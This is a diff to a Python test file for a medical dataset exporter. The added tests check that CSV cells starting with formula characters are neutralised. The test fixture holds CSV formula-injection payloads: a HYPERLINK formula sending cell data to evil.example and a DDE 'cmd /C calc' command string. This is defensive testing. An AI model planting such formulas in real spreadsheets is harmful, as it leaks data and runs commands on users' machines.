@@ -18,6 +18,7 @@ import yaml
 from datasets.exceptions import NonMatchingSplitsSizesError
 
 from generation.services import MEDSYN_CSV_COLUMNS, NoteRow, medsyn_csv_rows
+from medsyn_site.core.spreadsheet import NEUTRALISED_NOTE
 from review.releases.export import (
     ALL_COLUMNS,
     CSV_COLUMNS,
@@ -346,3 +347,58 @@ def test_an_empty_release_is_still_a_valid_folder(tmp_path, hf_offline):
                                            (100_000, "100K<n<1M"), (2_000_000, "1M<n<10M")])
 def test_size_category_uses_the_hub_buckets(n, bucket):
     assert size_category(n) == bucket
+
+
+def formula_rows() -> list[dict]:
+    """Cells a spreadsheet would run: a physician's comment, a note starting with a dash (common in Russian notes)."""
+    return [
+        row_make(0, response='=HYPERLINK("http://evil.example/?q="&A1, "Открыть")', symptoms="+7 кашель",
+                 prompt="@SUM(1+1)*cmd|' /C calc'!A0", anamnesis_precision=-0.25),
+        row_make(1, response="- жалобы на кашель;\n- слабость.", generation_model="-модель",
+                 anamnesis="\tскрытая формула", prior="\r=1+1"),
+    ]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
+    rows = formula_rows()
+    write(tmp_path / "r", rows)
+
+    with (tmp_path / "r" / "csv/train.csv").open(encoding="utf-8", newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    assert cells[0]["response"] == "'" + rows[0]["response"] and cells[0]["symptoms"] == "'+7 кашель"
+    assert cells[0]["prompt"] == "'" + rows[0]["prompt"]
+    assert cells[1]["response"] == "'- жалобы на кашель;\n- слабость." and cells[1]["generation_model"] == "'-модель"
+    assert cells[1]["anamnesis"] == "'\tскрытая формула" and cells[1]["prior"] == "'\r=1+1"
+    assert cells[0]["anamnesis_precision"] == "-0.25"  # a number is not a formula: written as it is
+    assert cells[0]["ICD-10"] == "J06.9" and cells[0]["idx"] == "0"
+    formula_start = tuple("=+-@\t\r")
+    assert not [value for cell in cells for value in cell.values() if value.startswith(formula_start)
+                and value != "-0.25"]
+
+
+def test_jsonl_and_parquet_keep_formula_like_cells_exactly(tmp_path):
+    rows = formula_rows()
+    write(tmp_path / "r", rows)
+
+    lines = (tmp_path / "r" / "jsonl/train.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
+    assert [json.loads(line) for line in lines] == rows
+    assert pq.read_table(tmp_path / "r" / "data/train.parquet").to_pylist() == rows
+
+
+def test_the_dataset_card_says_how_csv_cells_are_neutralised(released):
+    body = (released[0] / "README.md").read_text(encoding="utf-8").split("---\n", 2)[2]
+    assert NEUTRALISED_NOTE in body.split("## Loading")[1].split("## Columns")[0]
+
+
+@pytest.mark.xfail(strict=True, reason="generation.services.medsyn_csv_rows must undo core.spreadsheet's neutralising "
+                                       "apostrophe (a change in generation, asked of its owner); drop this marker then")
+def test_a_note_starting_with_a_dash_comes_back_identical_through_the_project_importer(tmp_path):
+    rows = formula_rows()
+    write(tmp_path / "r", rows)
+
+    parsed = list(medsyn_csv_rows(tmp_path / "r" / "csv/train.csv"))
+
+    assert [item.text for item in parsed] == [row["response"] for row in rows]
+    assert [item.metadata["generation_model"] for item in parsed] == [row["generation_model"] for row in rows]
+    assert [(item.metadata["symptoms"], item.metadata["prompt"], item.metadata["anamnesis"], item.metadata["prior"])
+            for item in parsed] == [(row["symptoms"], row["prompt"], row["anamnesis"], row["prior"]) for row in rows]
